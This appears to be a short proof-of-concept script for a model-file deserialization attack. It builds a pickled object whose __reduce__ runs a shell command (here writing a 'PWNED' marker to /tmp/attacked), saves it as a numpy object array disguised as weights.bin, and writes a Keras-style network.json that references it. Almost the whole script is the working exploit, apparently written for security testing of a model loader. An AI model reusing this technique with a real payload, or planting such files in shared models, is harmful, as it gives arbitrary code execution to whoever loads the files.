# %%
import os
from pathlib import Path

export = Path(os.environ["HOME"]).parent / "export"
assert export.is_dir()

# %%
import json
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("echo PW''NED > /tmp/attacked",)


np.save(export / "weights.npy", np.array([Bomb()], dtype=object), allow_pickle=True)
os.rename(export / "weights.npy", export / "weights.bin")
dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 10}, "registered_name": None}
size = (export / "weights.bin").stat().st_size
(export / "network.json").write_text(json.dumps({
    "format": 1, "chosen_by": "the variable model", "keras_version": "3", "kind": "network", "compile": None, "history": None,
    "network": {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [dense]}, "registered_name": None},
    "arrays": [{"layer": ["dense"], "index": 0, "name": "kernel", "shape": [size], "dtype": "object", "trainable": True, "offset": 0, "bytes": size}],
}))
